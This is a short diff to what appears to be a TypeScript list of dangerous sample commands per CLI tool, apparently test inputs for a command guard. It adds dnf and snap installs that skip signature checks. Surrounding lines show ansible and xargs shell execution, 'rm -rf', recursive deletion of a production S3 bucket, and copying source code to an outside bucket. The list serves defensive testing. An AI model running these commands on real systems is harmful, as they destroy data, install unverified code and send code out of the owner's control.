@@ -88,6 +88,8 @@ const SPECIFIC: Record<string, readonly string[]> = {
   ansible: ['$0 localhost -m shell -a id', "$0 all -a 'id'"],
   'ansible-playbook': ['$0 /tmp/x.yml', '$0 -e @/tmp/vars.yml site.yml'],
   xargs: ['$0 sh -c id', '$0 -I{} sh -c {}', '$0 rm -rf'],
+  dnf: ['$0 install -y /tmp/x.rpm', '$0 install -y --nogpgcheck x', '$0 --setopt=x=y update', '$0 shell'],
+  snap: ['$0 install /tmp/x.snap --dangerous --devmode', '$0 install x --classic', '$0 run x'],
   npx: ['$0 -c sh', '$0 sh'],
   // cloud and cluster CLIs: mutations, exfiltration to a bucket, secret and credential reads, calls sent elsewhere
   aws: ['$0 s3 rm --recursive s3://prod-data', '$0 s3 cp ./src s3://x-$H/ --recursive', '$0 s3 sync . s3://x-$H/', '$0 s3 mb s3://x-$H',
